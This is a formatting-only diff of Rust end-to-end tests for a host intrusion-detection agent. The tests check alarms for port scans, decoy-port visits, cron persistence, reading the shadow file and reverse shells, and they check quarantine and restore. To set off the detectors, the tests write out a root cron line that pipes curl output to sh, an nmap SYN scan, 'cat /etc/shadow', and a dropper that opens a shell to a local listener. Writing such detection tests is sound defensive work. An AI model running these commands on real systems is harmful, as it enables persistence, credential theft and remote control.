@@ -26,7 +26,12 @@ fn peer_is(a: &Value, peer: &str) -> bool {
 /// An alarm's detail (with its handling history beside it): the alarm.
 async fn detail(api: &Api, a: &Value) -> Result<Value> {
     let id = a["id"].as_str().unwrap_or("");
-    Ok(api.get(&format!("/api/v1/alarms/{id}")).await?.expect(200)?.json["alarm"].clone())
+    Ok(api
+        .get(&format!("/api/v1/alarms/{id}"))
+        .await?
+        .expect(200)?
+        .json["alarm"]
+        .clone())
 }
 
 /// The alarm's own process (first in its chain) and the chain's length.
@@ -185,10 +190,21 @@ async fn a_root_cron_line_that_downloads_and_runs_is_caught_twice() -> Result<()
         std::fs::write(dir.join("x.sh"), format!("touch {}\n", marker.display()))?;
         let port = free_port();
         let mut web = command("/usr/bin/python3");
-        web.args(["-m", "http.server", &port.to_string(), "--bind", "127.0.0.1", "--directory"]).arg(&dir);
+        web.args([
+            "-m",
+            "http.server",
+            &port.to_string(),
+            "--bind",
+            "127.0.0.1",
+            "--directory",
+        ])
+        .arg(&dir);
         let _web = Proc::spawn(&env, "http", web, &dir, "http")?;
         // The host's cron if it runs, else our own (no systemd in some CI containers).
-        let _cron = if run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None).await?.success() {
+        let _cron = if run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None)
+            .await?
+            .success()
+        {
             None
         } else {
             let mut c = command("/usr/sbin/cron");
@@ -197,19 +213,30 @@ async fn a_root_cron_line_that_downloads_and_runs_is_caught_twice() -> Result<()
         };
         let file = format!("/etc/cron.d/hostward-e2e-{}", std::process::id());
         let t0 = unix_now();
-        std::fs::write(&file, format!("* * * * * root curl -s http://127.0.0.1:{port}/x.sh | sh\n"))?;
+        std::fs::write(
+            &file,
+            format!("* * * * * root curl -s http://127.0.0.1:{port}/x.sh | sh\n"),
+        )?;
         std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644))?;
-        let written = wait_behaviour_alarm(&api, &server, "persistence_cron", "the cron file", |a| a["evidence"]["file"] == file).await;
+        let written =
+            wait_behaviour_alarm(&api, &server, "persistence_cron", "the cron file", |a| {
+                a["evidence"]["file"] == file
+            })
+            .await;
         // Cron runs it at the next minute.
         let ran = wait_behaviour_alarm(&api, &server, "high_risk_command", "cron's run", |a| {
-            a["evidence"]["rule"] == "download_to_shell" && chain_exes(a).iter().any(|e| e.ends_with("/cron"))
+            a["evidence"]["rule"] == "download_to_shell"
+                && chain_exes(a).iter().any(|e| e.ends_with("/cron"))
         })
         .await;
         let _ = std::fs::remove_file(&file);
         let (written, ran) = (written?, ran?);
         ensure!(detection_secs(&written, t0) <= 5, "{written}");
         let ran = detail(&api, &ran).await?;
-        ensure!(chain_exes(&ran).iter().any(|e| e.ends_with("/cron")), "cron in the chain: {ran}");
+        ensure!(
+            chain_exes(&ran).iter().any(|e| e.ends_with("/cron")),
+            "cron in the chain: {ran}"
+        );
         ensure!(marker.exists(), "the job really ran");
         Ok(())
     })
@@ -229,19 +256,51 @@ async fn an_nmap_syn_scan_and_a_decoy_port_visit_are_alarmed_and_blocked() -> Re
         let server = agent.server_id.clone();
         let t0 = unix_now();
         let out = n
-            .in_attacker(&["nmap", "-sS", "-Pn", "-n", "--max-retries", "0", "-p", "1-200", VICTIM_IP], secs(60))
+            .in_attacker(
+                &[
+                    "nmap",
+                    "-sS",
+                    "-Pn",
+                    "-n",
+                    "--max-retries",
+                    "0",
+                    "-p",
+                    "1-200",
+                    VICTIM_IP,
+                ],
+                secs(60),
+            )
             .await?;
         ensure!(out.success(), "nmap: {out}");
-        let a = wait_behaviour_alarm(&api, &server, "port_scan", "the nmap scan", |a| a["source_ip"] == ATTACKER_IP).await?;
+        let a = wait_behaviour_alarm(&api, &server, "port_scan", "the nmap scan", |a| {
+            a["source_ip"] == ATTACKER_IP
+        })
+        .await?;
         ensure!(detection_secs(&a, t0) <= 5, "{a}");
-        ensure!(a["evidence"]["blocked_until"].as_i64().is_some(), "blocked per policy: {a}");
+        ensure!(
+            a["evidence"]["blocked_until"].as_i64().is_some(),
+            "blocked per policy: {a}"
+        );
         n.wait_blocked(ATTACKER_IP).await?;
-        ensure!(!n.can_connect(None, VICTIM_IP, 22).await?, "the scanner's new connections are dropped");
-        let blocked = api.get(&format!("/api/v1/servers/{server}/blocked-ips")).await?.expect(200)?;
-        ensure!(blocked.text.contains("port_scan"), "the block's reason: {}", blocked.text);
+        ensure!(
+            !n.can_connect(None, VICTIM_IP, 22).await?,
+            "the scanner's new connections are dropped"
+        );
+        let blocked = api
+            .get(&format!("/api/v1/servers/{server}/blocked-ips"))
+            .await?
+            .expect(200)?;
+        ensure!(
+            blocked.text.contains("port_scan"),
+            "the block's reason: {}",
+            blocked.text
+        );
 
         // A decoy port, turned on by policy: one connection is an alarm and a block.
-        let project = server_of(&api.server_detail(&server).await?)["project_id"].as_str().unwrap_or("").to_string();
+        let project = server_of(&api.server_detail(&server).await?)["project_id"]
+            .as_str()
+            .unwrap_or("")
+            .to_string();
         let uri = format!("/api/v1/projects/{project}/behaviour-policy");
         let mut policy = api.get(&uri).await?.expect(200)?.json["policy"].clone();
         policy["disabled"] = json!([]);
@@ -249,14 +308,25 @@ async fn an_nmap_syn_scan_and_a_decoy_port_visit_are_alarmed_and_blocked() -> Re
         api.put(&uri, policy).await?.expect(200)?;
         let visitor = "10.79.0.7";
         n.add_attacker_addr(visitor).await?;
-        wait_until("the decoy port to answer", secs(30), millis(300), || async {
-            ensure!(n.can_connect(Some(visitor), VICTIM_IP, 2323).await?, "not open yet");
-            Ok(())
-        })
+        wait_until(
+            "the decoy port to answer",
+            secs(30),
+            millis(300),
+            || async {
+                ensure!(
+                    n.can_connect(Some(visitor), VICTIM_IP, 2323).await?,
+                    "not open yet"
+                );
+                Ok(())
+            },
+        )
         .await?;
         // The visit that answered happened within the last probe's 2 s timeout.
         let t1 = unix_now() - 2;
-        let a = wait_behaviour_alarm(&api, &server, "honeypot", "the decoy visit", |a| a["source_ip"] == visitor).await?;
+        let a = wait_behaviour_alarm(&api, &server, "honeypot", "the decoy visit", |a| {
+            a["source_ip"] == visitor
+        })
+        .await?;
         ensure!(detection_secs(&a, t1) <= 5, "{a}");
         n.wait_blocked(visitor).await?;
         Ok(())
@@ -269,7 +339,16 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
     let _serial = SERIAL.lock().await;
     let env = TestEnv::new("behaviour-workload");
     env.run(async {
-        require_tools(&["apt-get", "cc", "ssh", "ssh-keygen", "/usr/sbin/sshd", "/usr/sbin/cron", "nft"]).await?;
+        require_tools(&[
+            "apt-get",
+            "cc",
+            "ssh",
+            "ssh-keygen",
+            "/usr/sbin/sshd",
+            "/usr/sbin/cron",
+            "nft",
+        ])
+        .await?;
         let n = Netns::new().await?;
         let dir = env.subdir("workload");
         std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
@@ -277,14 +356,35 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
         // key login for a fresh account.
         let marker = dir.join("cron-ran");
         let job = format!("/etc/cron.d/hostward-e2e-wl-{}", std::process::id());
-        std::fs::write(&job, format!("* * * * * root date > {}\n", marker.display()))?;
+        std::fs::write(
+            &job,
+            format!("* * * * * root date > {}\n", marker.display()),
+        )?;
         std::fs::set_permissions(&job, std::fs::Permissions::from_mode(0o644))?;
         let keys = env.subdir("keys");
         let key = keys.join("client_key");
-        run_cmd(Path::new("ssh-keygen"), &["-q", "-t", "ed25519", "-N", "", "-f", &key.display().to_string()].map(String::from), None).await?.ok()?;
+        run_cmd(
+            Path::new("ssh-keygen"),
+            &[
+                "-q",
+                "-t",
+                "ed25519",
+                "-N",
+                "",
+                "-f",
+                &key.display().to_string(),
+            ]
+            .map(String::from),
+            None,
+        )
+        .await?
+        .ok()?;
         let (account, _) = User::random("wl").await?;
         let user = account.0.clone();
-        std::fs::copy(keys.join("client_key.pub"), keys.join(format!("{user}.keys")))?;
+        std::fs::copy(
+            keys.join("client_key.pub"),
+            keys.join(format!("{user}.keys")),
+        )?;
         let authorized = format!("AuthorizedKeysFile={}/%u.keys", keys.display());
         let sshd = Sshd::start(&env, &n, &[&authorized, "StrictModes=no"]).await?;
 
@@ -292,7 +392,10 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
         let api = center.api();
         let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
         let server = agent.server_id.clone();
-        let _cron = if run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None).await?.success() {
+        let _cron = if run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None)
+            .await?
+            .success()
+        {
             None
         } else {
             let mut c = command("/usr/sbin/cron");
@@ -301,26 +404,67 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
         };
         let result = async {
             // An install, from the real package archive.
-            let out = run_cmd_timeout(Path::new("apt-get"), &["install", "-y", "-q", "--reinstall", "hello"].map(String::from), None, secs(300)).await?;
+            let out = run_cmd_timeout(
+                Path::new("apt-get"),
+                &["install", "-y", "-q", "--reinstall", "hello"].map(String::from),
+                None,
+                secs(300),
+            )
+            .await?;
             ensure!(out.success(), "apt-get install hello: {out}");
             // A compile.
-            std::fs::write(dir.join("a.c"), "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n")?;
-            let out = run_cmd(Path::new("cc"), &["-O2", "-o", &dir.join("a").display().to_string(), &dir.join("a.c").display().to_string()].map(String::from), None).await?;
+            std::fs::write(
+                dir.join("a.c"),
+                "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n",
+            )?;
+            let out = run_cmd(
+                Path::new("cc"),
+                &[
+                    "-O2",
+                    "-o",
+                    &dir.join("a").display().to_string(),
+                    &dir.join("a.c").display().to_string(),
+                ]
+                .map(String::from),
+                None,
+            )
+            .await?;
             ensure!(out.success(), "cc: {out}");
             run_cmd(&dir.join("a"), &[], None).await?.ok()?;
             // sshd logins.
             for _ in 0..3 {
                 let out = n
                     .in_attacker(
-                        &["ssh", "-i", &key.display().to_string(), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", &format!("{user}@{VICTIM_IP}"), "id; ls /tmp >/dev/null"],
+                        &[
+                            "ssh",
+                            "-i",
+                            &key.display().to_string(),
+                            "-o",
+                            "StrictHostKeyChecking=no",
+                            "-o",
+                            "UserKnownHostsFile=/dev/null",
+                            "-o",
+                            "BatchMode=yes",
+                            &format!("{user}@{VICTIM_IP}"),
+                            "id; ls /tmp >/dev/null",
+                        ],
                         secs(20),
                     )
                     .await?;
                 ensure!(out.success(), "ssh: {out}");
             }
             // The daily risk scan, run now.
-            let task = api.post("/api/v1/tasks", json!({"server_ids": [server], "kind": "risk_scan", "params": {}})).await?.expect(201)?;
-            let id = task.json["items"][0]["id"].as_str().unwrap_or("").to_string();
+            let task = api
+                .post(
+                    "/api/v1/tasks",
+                    json!({"server_ids": [server], "kind": "risk_scan", "params": {}}),
+                )
+                .await?
+                .expect(201)?;
+            let id = task.json["items"][0]["id"]
+                .as_str()
+                .unwrap_or("")
+                .to_string();
             wait_until("the risk scan", secs(300), millis(500), || async {
                 let t = api.get(&format!("/api/v1/tasks/{id}")).await?.expect(200)?;
                 ensure!(t.json["state"] == "done", "{}", t.json["state"]);
@@ -331,10 +475,16 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
             drop(sshd);
             let _sshd = Sshd::start(&env, &n, &[&authorized, "StrictModes=no"]).await?;
             // A cron job run.
-            host_until("the cron job to run", || marker.exists()).await.or_else(|_| {
-                std::thread::sleep(secs(35));
-                if marker.exists() { Ok(()) } else { Err(anyhow!("the cron job never ran")) }
-            })?;
+            host_until("the cron job to run", || marker.exists())
+                .await
+                .or_else(|_| {
+                    std::thread::sleep(secs(35));
+                    if marker.exists() {
+                        Ok(())
+                    } else {
+                        Err(anyhow!("the cron job never ran"))
+                    }
+                })?;
             // Give the last events time to arrive: records flow in order, so a heartbeat after
             // this point means everything before it was judged.
             tokio::time::sleep(secs(3)).await;
@@ -342,13 +492,35 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
         }
         .await;
         let _ = std::fs::remove_file(&job);
-        let _ = run_cmd(Path::new("apt-get"), &["remove", "-y", "-q", "hello"].map(String::from), None).await;
+        let _ = run_cmd(
+            Path::new("apt-get"),
+            &["remove", "-y", "-q", "hello"].map(String::from),
+            None,
+        )
+        .await;
         result?;
         let alarms = alarms_of(&api, &server).await?;
-        ensure!(alarms.is_empty(), "a normal workload raised alarms: {}", serde_json::to_string_pretty(&alarms)?);
+        ensure!(
+            alarms.is_empty(),
+            "a normal workload raised alarms: {}",
+            serde_json::to_string_pretty(&alarms)?
+        );
         // The detectors were live all along: one high-risk command now is seen.
-        run_cmd(Path::new("sh"), &["-c".into(), "cat /etc/shadow > /dev/null".into()], None).await?.ok()?;
-        wait_behaviour_alarm(&api, &server, "high_risk_command", "the control command", |a| a["evidence"]["rule"] == "read_shadow").await?;
+        run_cmd(
+            Path::new("sh"),
+            &["-c".into(), "cat /etc/shadow > /dev/null".into()],
+            None,
+        )
+        .await?
+        .ok()?;
+        wait_behaviour_alarm(
+            &api,
+            &server,
+            "high_risk_command",
+            "the control command",
+            |a| a["evidence"]["rule"] == "read_shadow",
+        )
+        .await?;
         Ok(())
     })
     .await
@@ -381,36 +553,80 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
         // The dropper dials out and runs a shell on the connection.
         let _l = listener(&env, &dir, "127.0.0.1", 19201, "sleep 30", 30)?;
         tokio::time::sleep(millis(300)).await;
-        let (_a, _) = attack(&env, &dir, "dropper", &format!("{} 127.0.0.1 19201", bin.display()))?;
-        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "the dropper's shell", |a| peer_is(a, "127.0.0.1:19201")).await?;
-        ensure!(a["evidence"]["file"].as_str() == bin.to_str(), "the dropper is the file to isolate: {a}");
-        let pids: Vec<i64> = a["evidence"]["processes"].as_array().into_iter().flatten().filter_map(|p| p["pid"].as_i64()).collect();
+        let (_a, _) = attack(
+            &env,
+            &dir,
+            "dropper",
+            &format!("{} 127.0.0.1 19201", bin.display()),
+        )?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "the dropper's shell", |a| {
+            peer_is(a, "127.0.0.1:19201")
+        })
+        .await?;
+        ensure!(
+            a["evidence"]["file"].as_str() == bin.to_str(),
+            "the dropper is the file to isolate: {a}"
+        );
+        let pids: Vec<i64> = a["evidence"]["processes"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter_map(|p| p["pid"].as_i64())
+            .collect();
         let (shell, dropper) = (pids[0], pids[1]);
-        ensure!(alive(shell) && alive(dropper), "both run before the isolation");
+        ensure!(
+            alive(shell) && alive(dropper),
+            "both run before the isolation"
+        );
 
         // Isolate and kill, as a person does from the alarm.
         let task = api
-            .post("/api/v1/isolated-files/isolate", json!({"alarm_id": a["id"]}))
+            .post(
+                "/api/v1/isolated-files/isolate",
+                json!({"alarm_id": a["id"]}),
+            )
             .await?
             .expect(201)?;
         let done = wait_task(&api, task.json["id"].as_str().unwrap_or("")).await?;
-        ensure!(done["output"]["killed"].as_array().is_some_and(|k| k.len() >= 2), "{done}");
+        ensure!(
+            done["output"]["killed"]
+                .as_array()
+                .is_some_and(|k| k.len() >= 2),
+            "{done}"
+        );
         host_until("the tree to die", || !alive(shell) && !alive(dropper)).await?;
         ensure!(!bin.exists(), "the dropper left its path");
-        let list = wait_until("the isolated file at the center", secs(30), millis(200), || async {
-            let r = api.get(&format!("/api/v1/isolated-files?server={server}")).await?.expect(200)?;
-            let item = r.json["items"].as_array().and_then(|i| i.first().cloned()).ok_or_else(|| anyhow!("none yet"))?;
-            ensure!(item["state"] == "isolated", "{item}");
-            Ok(item)
-        })
+        let list = wait_until(
+            "the isolated file at the center",
+            secs(30),
+            millis(200),
+            || async {
+                let r = api
+                    .get(&format!("/api/v1/isolated-files?server={server}"))
+                    .await?
+                    .expect(200)?;
+                let item = r.json["items"]
+                    .as_array()
+                    .and_then(|i| i.first().cloned())
+                    .ok_or_else(|| anyhow!("none yet"))?;
+                ensure!(item["state"] == "isolated", "{item}");
+                Ok(item)
+            },
+        )
         .await?;
-        ensure!(list["path"].as_str() == bin.to_str() && list["uid"] == 65534 && list["mode"] == 0o750, "{list}");
+        ensure!(
+            list["path"].as_str() == bin.to_str() && list["uid"] == 65534 && list["mode"] == 0o750,
+            "{list}"
+        );
         ensure!(list["reason"] == "reverse_shell", "{list}");
         let stored = std::fs::read_dir(agent.state_dir.join("quarantine"))?
             .flatten()
             .find(|e| e.file_name() != "index.json")
             .ok_or_else(|| anyhow!("nothing in the quarantine dir"))?;
-        ensure!(stored.metadata()?.permissions().mode() & 0o7777 == 0, "kept with mode 0000");
+        ensure!(
+            stored.metadata()?.permissions().mode() & 0o7777 == 0,
+            "kept with mode 0000"
+        );
 
         // A copy put back, under any name, is refused at exec; so is the original build.
         let copy = dir.join("rsh-again");
@@ -425,30 +641,56 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
             );
         }
         // Other programs still run.
-        ensure!(std::process::Command::new("/usr/bin/id").output()?.status.success());
+        ensure!(
+            std::process::Command::new("/usr/bin/id")
+                .output()?
+                .status
+                .success()
+        );
 
         // Restore: back with owner and mode, and runnable again.
         let file_id = list["file_id"].as_str().unwrap_or("").to_string();
         let r = api
-            .post("/api/v1/isolated-files/actions", json!({"action": "restore", "files": [{"server_id": server, "file_id": file_id}]}))
+            .post(
+                "/api/v1/isolated-files/actions",
+                json!({"action": "restore", "files": [{"server_id": server, "file_id": file_id}]}),
+            )
             .await?
             .expect(200)?;
         wait_task(&api, r.json["tasks"][0]["id"].as_str().unwrap_or("")).await?;
         let m = std::fs::metadata(&bin)?;
         use std::os::unix::fs::MetadataExt;
-        ensure!((m.uid(), m.gid(), m.mode() & 0o7777) == (65534, 65534, 0o750), "restored as {:o}", m.mode());
-        ensure!(std::fs::read(&bin)? == std::fs::read(&built)?, "the same bytes");
+        ensure!(
+            (m.uid(), m.gid(), m.mode() & 0o7777) == (65534, 65534, 0o750),
+            "restored as {:o}",
+            m.mode()
+        );
+        ensure!(
+            std::fs::read(&bin)? == std::fs::read(&built)?,
+            "the same bytes"
+        );
         let st = std::process::Command::new(&bin).status()?;
         ensure!(st.code() == Some(2), "runs again (usage exit 2): {st:?}");
-        wait_until("the restore at the center", secs(30), millis(200), || async {
-            let r = api.get(&format!("/api/v1/isolated-files?server={server}")).await?.expect(200)?;
-            ensure!(r.json["items"][0]["state"] == "restored", "{}", r.text);
-            Ok(())
-        })
+        wait_until(
+            "the restore at the center",
+            secs(30),
+            millis(200),
+            || async {
+                let r = api
+                    .get(&format!("/api/v1/isolated-files?server={server}"))
+                    .await?
+                    .expect(200)?;
+                ensure!(r.json["items"][0]["state"] == "restored", "{}", r.text);
+                Ok(())
+            },
+        )
         .await?;
 
         // Automatic isolate and kill, once the project's policy asks for it.
-        let project = server_of(&api.server_detail(&server).await?)["project_id"].as_str().unwrap_or("").to_string();
+        let project = server_of(&api.server_detail(&server).await?)["project_id"]
+            .as_str()
+            .unwrap_or("")
+            .to_string();
         let uri = format!("/api/v1/projects/{project}/behaviour-policy");
         let mut policy = api.get(&uri).await?.expect(200)?.json["policy"].clone();
         policy["auto_isolate"] = json!(true);
@@ -456,14 +698,32 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
         tokio::time::sleep(secs(2)).await;
         let _l2 = listener(&env, &dir, "127.0.0.1", 19202, "sleep 30", 30)?;
         tokio::time::sleep(millis(300)).await;
-        let (_a2, _) = attack(&env, &dir, "dropper-2", &format!("{} 127.0.0.1 19202", bin.display()))?;
-        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "the second run", |a| peer_is(a, "127.0.0.1:19202")).await?;
+        let (_a2, _) = attack(
+            &env,
+            &dir,
+            "dropper-2",
+            &format!("{} 127.0.0.1 19202", bin.display()),
+        )?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "the second run", |a| {
+            peer_is(a, "127.0.0.1:19202")
+        })
+        .await?;
         ensure!(
-            a["evidence"]["response"].as_str().is_some_and(|r| r.starts_with("isolated and killed automatically")),
+            a["evidence"]["response"]
+                .as_str()
+                .is_some_and(|r| r.starts_with("isolated and killed automatically")),
             "{a}"
         );
-        let pids: Vec<i64> = a["evidence"]["processes"].as_array().into_iter().flatten().filter_map(|p| p["pid"].as_i64()).collect();
-        host_until("the auto-killed tree to die", || pids.iter().take(2).all(|p| !alive(*p))).await?;
+        let pids: Vec<i64> = a["evidence"]["processes"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter_map(|p| p["pid"].as_i64())
+            .collect();
+        host_until("the auto-killed tree to die", || {
+            pids.iter().take(2).all(|p| !alive(*p))
+        })
+        .await?;
         ensure!(!bin.exists(), "isolated again");
         Ok(())
     })
